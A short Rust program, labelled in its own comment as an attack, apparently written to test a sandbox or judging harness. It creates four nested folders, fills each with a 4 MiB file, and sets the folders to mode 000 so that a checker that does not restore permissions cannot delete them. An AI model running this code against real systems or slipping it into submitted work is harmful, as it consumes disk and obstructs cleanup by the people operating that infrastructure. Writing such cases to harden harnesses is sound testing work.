//! attack: fills folders in its run folder and takes every right away from them (chmod 000),
//! so that a checker that does not take them back cannot remove them

use std::os::unix::fs::PermissionsExt;

fn main() {
    for i in 0..4 {
        let dir = format!("locked{i}/inner");
        if std::fs::create_dir_all(&dir).is_ok() {
            let _ = std::fs::write(format!("{dir}/filler"), vec![7u8; 4 << 20]);
            let _ = std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0));
            let _ = std::fs::set_permissions(format!("locked{i}"), std::fs::Permissions::from_mode(0));
        }
    }
}
